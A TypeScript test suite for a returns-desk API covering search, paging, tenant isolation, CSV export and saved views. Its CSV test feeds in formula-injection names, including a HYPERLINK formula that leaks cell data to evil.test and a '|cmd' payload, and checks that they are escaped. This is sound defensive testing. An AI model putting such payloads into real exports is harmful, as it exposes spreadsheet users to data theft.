import assert from "node:assert/strict";
import { test } from "node:test";
import { parse } from "csv-parse/sync";
import { engines } from "../support/databases.ts";
import { shopping } from "../support/shopping.ts";
import { aWorld, day } from "../support/world.ts";

const lyon = { line1: "8 avenue Foch", postalCode: "69006", city: "Lyon", country: "FR" };

for (const engine of engines()) {
  const aDesk = async () => {
    const world = await aWorld(engine);
    const shopper = shopping(world);
    const order = async (number: string, name = "Claire Martin") => {
      const address = { ...lyon, name };
      await world.order(world.ada, { number, shipTo: address, billTo: address });
    };
    const sendBack = async (number: string, name?: string) => {
      await order(number, name);
      return shopper.sendBack(number);
    };
    const get = (path: string, headers: Record<string, string> = {}, token = world.ada.apiKey) =>
      world.ask("GET", `/api/desk${path}`, { token, headers });
    return { world, order, sendBack, get };
  };

  test(`${engine.name}: the desk lists number, order, name, status, date, items and reason of each return, late ones marked (S3-07 to S3-12)`, async (t) => {
    const { world, sendBack, get } = await aDesk();
    t.after(() => world.close());
    await sendBack("A1");
    const { json } = await get("/returns", { "Accept-Language": "fr" });
    const [row] = json.items;
    assert.match(row.number, /^ADAX\d{8}$/);
    assert.deepEqual(
      [row.orderNumber, row.shopper, row.word, row.requestedAt, row.units],
      ["A1", "Claire Martin", "waiting_for_parcel", world.now(), 1],
    );
    assert.deepEqual(
      [row.shop, row.country, row.value, row.currency, row.queue, row.late],
      ["ada", "FR", 3150, "EUR", "to_receive", false],
    );
    assert.deepEqual([row.reason.id, row.reason.text], ["too_small", "Trop petit"]);
    assert.deepEqual([json.next, json.total], [null, 1]);
    // Ninety hours later nothing is late: it is the shopper who has the parcel.
    world.pass(4 * day);
    assert.equal((await get("/returns")).json.items[0].late, false);
    const policy = (await get("/shops/ada/policy")).json.policy;
    await world.ask("PUT", "/api/desk/shops/ada/policy", { token: world.ada.apiKey, body: { ...policy, approval: "manual" } });
    await sendBack("A2");
    world.pass(2 * day + 1);
    const late = (await get("/returns?queue=to_review")).json.items;
    assert.deepEqual([late.length, late[0].late], [1, true]);
    assert.deepEqual(
      (await get("/returns?waiting=48")).json.items.map(({ orderNumber }: { orderNumber: string }) => orderNumber),
      ["A1", "A2"],
    );
    assert.deepEqual(
      (await get("/returns?waiting=49")).json.items.map(({ orderNumber }: { orderNumber: string }) => orderNumber),
      ["A1"],
    );
  });

  test(`${engine.name}: pages follow each other, a search spans the queues, and another merchant sees nothing`, async (t) => {
    const { world, sendBack, get } = await aDesk();
    t.after(() => world.close());
    for (const number of ["B1", "B2", "B3"]) await sendBack(number, number === "B2" ? "Jörg Weiß" : undefined);
    const first = await get("/returns?sort=number&order=desc&limit=2");
    const second = await get(`/returns?sort=number&order=desc&limit=2&after=${first.json.next}`);
    const seen = [...first.json.items, ...second.json.items].map(({ number }) => number);
    assert.deepEqual(seen, seen.toSorted().reverse());
    assert.deepEqual([new Set(seen).size, second.json.next, first.json.total], [3, null, 3]);
    for (const typed of ["joerg", "WEISS", "weiß jö", "b2"]) {
      const { items } = (await get(`/returns?queue=done&search=${encodeURIComponent(typed)}`)).json;
      assert.deepEqual(
        items.map(({ orderNumber }: { orderNumber: string }) => orderNumber),
        ["B2"],
        typed,
      );
    }
    for (const path of ["/returns", "/returns?search=B2", "/returns?shop=ada", `/returns?sort=number&order=desc&after=${first.json.next}`])
      assert.deepEqual((await get(path, {}, world.ben.apiKey)).json, { items: [], next: null, total: 0 }, path);
    assert.equal((await get("/returns.csv", {}, world.ben.apiKey)).text.trim().split("\r\n").length, 1);
  });

  test(`${engine.name}: what cannot be asked is refused by name, never with a defect`, async (t) => {
    const { world, sendBack, get } = await aDesk();
    t.after(() => world.close());
    await sendBack("C1");
    await sendBack("C2");
    const { next } = (await get("/returns?limit=1")).json;
    const forged = (value: unknown) => Buffer.from(JSON.stringify(value)).toString("base64url");
    const id = `ret_${"0".repeat(25)}`;
    const cursors = [
      `sort=value&after=${next}`,
      `order=desc&after=${next}`,
      "after=x",
      `after=${forged(null)}`,
      `after=${forged(["waiting", false, "x", id])}`,
      `after=${forged(["waiting", false, 1.5, id])}`,
      `after=${forged(["waiting", false, 1, "ret"])}`,
    ];
    for (const query of [
      ...cursors,
      "queue=none",
      "sort=name",
      "limit=0",
      "limit=201",
      "lane=x",
      "from=x",
      "waiting=0",
      `search=${"a".repeat(101)}`,
    ]) {
      const answer = await get(`/returns?${query}`);
      assert.equal(answer.status, 400, query);
      assert.equal(answer.json.code, "invalid_request", query);
    }
    for (const query of [
      "reason=%00",
      "shop=%00",
      "country=%00",
      "search=%00",
      "search=%25",
      `from=${Number.MIN_SAFE_INTEGER}`,
      `to=${Number.MAX_SAFE_INTEGER}`,
      `sort=number&after=${forged(["number", false, "\u0000", id])}`,
    ])
      assert.equal((await get(`/returns?${query}`)).status, 200, query);
  });

  test(`${engine.name}: new requests are seen by asking for counts alone, which cost nothing while nothing happens (S3-01, S4-25)`, async (t) => {
    const { world, sendBack, get } = await aDesk();
    t.after(() => world.close());
    await sendBack("D1");
    const before = await get("/queues");
    assert.equal(before.json.counts.to_receive, 1);
    const tag = before.headers.get("ETag") ?? "";
    const again = await get("/queues", { "If-None-Match": tag });
    assert.deepEqual([again.status, again.text], [304, ""]);
    await sendBack("D2");
    const after = await get(`/queues?since=${before.json.latest}`, { "If-None-Match": tag });
    assert.deepEqual([after.status, after.json.fresh, after.json.counts.to_receive], [200, 1, 2]);
    assert.equal((await get("/queues?since=nonsense")).json.fresh, 0);
    assert.deepEqual((await get("/queues", {}, world.ben.apiKey)).json.latest, null);
  });

  test(`${engine.name}: the CSV is what a spreadsheet takes, and no name in it is a formula`, async (t) => {
    const { world, sendBack, get } = await aDesk();
    t.after(() => world.close());
    const names = [
      '=HYPERLINK("http://evil.test?"&A1,"Click")',
      "+33 6 12 34 56 78",
      "-1+1|cmd",
      "@SUM(A1)",
      " =1+1",
      "＝1+1",
      'Anna "Ann", Berg',
      "O'Neil; née Déjà",
    ];
    for (const [n, name] of names.entries()) await sendBack(`E${n}`, name);
    const { headers, bytes, text } = await get("/returns.csv?sort=requested", { "Accept-Language": "de" });
    assert.equal(headers.get("Content-Type"), "text/csv; charset=utf-8");
    assert.match(headers.get("Content-Disposition") ?? "", /^attachment;/);
    assert.deepEqual([...bytes.slice(0, 3)], [0xef, 0xbb, 0xbf]);
    assert.ok(text.endsWith("\r\n"));
    const [head = [], ...lines] = parse(text, { bom: true, record_delimiter: "\r\n" }) as string[][];
    assert.deepEqual(head.slice(0, 4), ["Rücksendenummer", "Bestellung", "Kunde", "Status"]);
    const shown = new Map(lines.map((line) => [line[1], line[2]]));
    assert.deepEqual(
      names.map((_, n) => shown.get(`E${n}`)),
      [...names.slice(0, 6).map((name) => `'${name}`), names[6], names[7]],
    );
    assert.ok(lines.every((line) => line.length === head.length && !line.some((cell) => /^\s*[=+\-@＝]/u.test(cell))));
    assert.deepEqual(lines[0]?.slice(6, 11), ["2026-11-23 12:00", "2026-11-23 12:00", "1", "Zu klein", "31.50"]);
    assert.equal((await get("/returns.csv?search=E3")).text.trim().split("\r\n").length, 2);
    // Only who may export may: a warehouse and a reader may not.
    for (const role of ["warehouse", "reader"] as const)
      assert.equal((await world.ask("GET", "/api/desk/returns.csv", { headers: await world.member(world.ada, role) })).status, 403);
  });

  test(`${engine.name}: a search takes one letter, any script and any case, and a wildcard for itself`, async (t) => {
    const { world, sendBack, get } = await aDesk();
    t.after(() => world.close());
    const names = ["Łukasz Wójcik", "山田 太郎", "Ωμέγα Πάπας", "100% Wolle_Laden", "İpek Şahin"];
    for (const [n, name] of names.entries()) await sendBack(`S${n}`, name);
    const found = async (path: string, typed: string) =>
      (await get(`${path}?search=${encodeURIComponent(typed)}`)).json.items.map(
        (row: Record<string, string>) => row.orderNumber ?? row.number,
      );
    for (const [typed, number] of [
      ["WÓJ", "S0"],
      ["wojcik", "S0"],
      ["山", "S1"],
      ["太郎", "S1"],
      ["ω", "S2"],
      ["πάπ", "S2"],
      ["100%", "S3"],
      ["wolle_", "S3"],
      ["ipek", "S4"],
    ] as const)
      assert.deepEqual(await found("/returns", typed), [number], typed);
    // Folded as people type: a stroke is no other letter.
    assert.deepEqual((await found("/returns", "ł")).toSorted(), ["S0", "S3"]);
    // A wildcard finds nothing but itself; nothing typed is no search.
    for (const typed of ["%", "_", "%z", "L_kasz", "*", "\\"]) {
      assert.deepEqual(
        (await found("/returns", typed)).filter((number: string) => number !== "S3"),
        [],
        typed,
      );
      assert.deepEqual(
        (await found("/orders", typed)).filter((number: string) => number !== "S3"),
        [],
        typed,
      );
    }
    assert.deepEqual((await found("/orders", "Ł")).toSorted(), ["S0", "S3"]);
    const [first] = (await get("/orders?limit=1")).json.items;
    assert.deepEqual((await get(`/orders?after=${first.id}`, {}, world.ben.apiKey)).json.items, []);
  });

  test(`${engine.name}: an export asks a person to show once more who they are, and a key never`, async (t) => {
    const { world, sendBack, get } = await aDesk();
    t.after(() => world.close());
    await sendBack("Q1");
    const headers = await world.member(world.ada, "agent");
    assert.equal((await world.ask("GET", "/api/desk/returns.csv", { headers })).status, 200);
    world.pass(60 * 60_000);
    const late = await world.ask("GET", "/api/desk/returns.csv", { headers });
    assert.deepEqual([late.status, late.json.code], [403, "confirmation_needed"]);
    assert.equal((await world.ask("GET", "/api/desk/returns", { headers })).status, 200);
    assert.equal((await get("/returns.csv")).status, 200);
  });

  test(`${engine.name}: orders are listed with who and how many returns, and found by number and name (S2-17, S5-21)`, async (t) => {
    const { world, order, sendBack, get } = await aDesk();
    t.after(() => world.close());
    await order("G1", "Jürgen Müller");
    await sendBack("G2");
    const rows = (await get("/orders")).json.items.map((row: Record<string, unknown>) => [
      row.number,
      row.shopper,
      row.country,
      row.shop,
      row.returns,
    ]);
    assert.deepEqual(rows.toSorted(), [
      ["G1", "Jürgen Müller", "FR", "ada", 0],
      ["G2", "Claire Martin", "FR", "ada", 1],
    ]);
    for (const typed of ["g-1", "Mueller", "jürgen m"]) {
      const found = (await get(`/orders?search=${encodeURIComponent(typed)}`)).json.items;
      assert.deepEqual(
        found.map(({ number }: { number: string }) => number),
        ["G1"],
        typed,
      );
    }
    assert.deepEqual((await get("/orders?search=mueller", {}, world.ben.apiKey)).json.items, []);
  });

  test(`${engine.name}: a view is kept for oneself or for all, each once, and is nobody else's to change`, async (t) => {
    const { world, get } = await aDesk();
    t.after(() => world.close());
    const [agent, reader, ben] = await Promise.all([
      world.member(world.ada, "agent"),
      world.member(world.ada, "reader"),
      world.member(world.ben, "owner"),
    ]);
    const ask = (method: string, path: string, headers: Record<string, string>, body?: object) =>
      world.ask(method, `/api/desk${path}`, { headers, ...(body && { body }) });
    let keys = 0;
    const save = (headers: Record<string, string>, body: object, key = `view-${++keys}-of-the-test`) =>
      ask("POST", "/views", { ...headers, "Idempotency-Key": key }, body);
    const names = async (headers: Record<string, string>) =>
      (await ask("GET", "/views", headers)).json.items.map(({ name }: { name: string }) => name);

    const own = await save(reader, { name: "Faulty", query: "queue=to_decide&reason=faulty" }, "the-very-same-key");
    assert.deepEqual([own.status, own.json.shared], [201, false]);
    assert.deepEqual((await save(reader, { name: "Faulty", query: "queue=to_decide&reason=faulty" }, "the-very-same-key")).json, own.json);
    assert.equal((await save(reader, { name: "Other", query: "" }, "the-very-same-key")).json.code, "idempotency_key_reused");
    assert.equal((await save(reader, { name: "For all", query: "", shared: true })).status, 403);
    const shared = (await save(agent, { name: "For all", query: "", shared: true })).json;
    assert.deepEqual([await names(reader), await names(agent), await names(ben)], [["Faulty", "For all"], ["For all"], []]);
    assert.deepEqual(
      (await get("/views")).json.items.map(({ name }: { name: string }) => name),
      ["For all"],
    );

    assert.equal((await ask("PATCH", `/views/${own.json.id}`, reader, { name: "Broken" })).json.name, "Broken");
    assert.equal((await ask("PATCH", `/views/${shared.id}`, reader, { name: "Mine" })).status, 403);
    for (const headers of [agent, ben])
      for (const method of ["PATCH", "DELETE"])
        assert.equal((await ask(method, `/views/${own.json.id}`, headers, method === "PATCH" ? {} : undefined)).status, 404);
    assert.equal((await ask("DELETE", `/views/${shared.id}`, agent)).status, 204);
    assert.equal((await ask("DELETE", `/views/${shared.id}`, agent)).status, 404);
    for (const body of [
      { name: "", query: "" },
      { name: "x", query: "a b" },
      { name: "x\u0000", query: "" },
      { name: "x".repeat(61), query: "" },
      { name: "x" },
    ])
      assert.equal((await save(agent, body)).status, 400);
    for (let n = 1; n < 50; n++) assert.equal((await save(reader, { name: `View ${n}`, query: "" })).status, 201);
    assert.equal((await save(reader, { name: "One too many", query: "" })).json.code, "too_many_views");
    assert.equal((await save(agent, { name: "Another's", query: "" })).status, 201);
  });
}
